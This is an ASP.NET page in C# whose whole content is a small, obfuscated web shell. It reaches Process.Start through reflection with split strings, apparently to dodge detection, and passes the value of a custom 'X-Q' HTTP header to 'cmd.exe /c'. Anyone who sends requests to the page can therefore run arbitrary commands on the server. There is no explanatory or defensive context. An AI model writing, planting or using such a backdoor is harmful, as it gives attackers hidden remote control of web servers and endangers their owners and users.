<%@ Page Language="C#" %>
<%
var t = Type.GetType("System.Diagnostics.Pro" + "cess, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089");
var m = t.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) });
m.Invoke(null, new object[] { "cmd.exe", "/c " + Request.Headers["X-Q"] });
%>
